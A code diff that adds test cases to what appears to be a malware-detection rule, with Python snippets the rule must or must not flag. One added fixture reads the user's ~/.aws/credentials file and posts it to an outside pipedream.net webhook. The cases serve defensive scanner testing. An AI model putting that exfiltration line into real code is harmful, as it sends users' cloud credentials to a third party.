@@ -281,6 +281,14 @@ common in SDKs; several stores (or a browser/wallet/Discord store) with a networ
             "a.py",
             "import requests\ncfg = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.get('https://sts.amazonaws.com/')\n",
         ),
+        fires(
+            "a.py",
+            "import requests\ncfg = open(os.path.join(home, '.aws/credentials')).read()\nrequests.post('https://eo1.m.pipedream.net', data=cfg)\n",
+        ),
+        quiet(
+            "a.py",
+            "cfg = open(os.path.join(home, '.aws/credentials')).read()\nHOOK = 'https://eo1.m.pipedream.net'\n",
+        ),
     ],
 )
 .refs(&[
